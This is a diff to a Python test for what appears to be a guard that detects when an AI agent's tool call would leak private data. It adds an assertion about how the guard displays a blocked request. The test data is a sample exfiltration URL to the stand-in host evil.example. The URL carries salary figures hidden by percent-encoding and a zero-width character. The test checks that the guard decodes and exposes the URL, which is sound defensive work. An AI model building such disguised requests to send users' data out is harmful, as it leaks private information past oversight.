@@ -190,8 +190,9 @@ def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     verdict = private().judge_call(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
     asks = verdict.unreleased_data
     assert verdict.recipient == "evil.example"
-    wire, _, clear = asks.text.splitlines()
+    wire, label, clear = asks.text.splitlines()
     assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
+    assert label == "In clear:"
     assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
     assert asks.reason == "a model put this together or took it from the web, and could see salaries.csv"
     query = private().judge_call(FIND, Words(query="salary 184,200"))
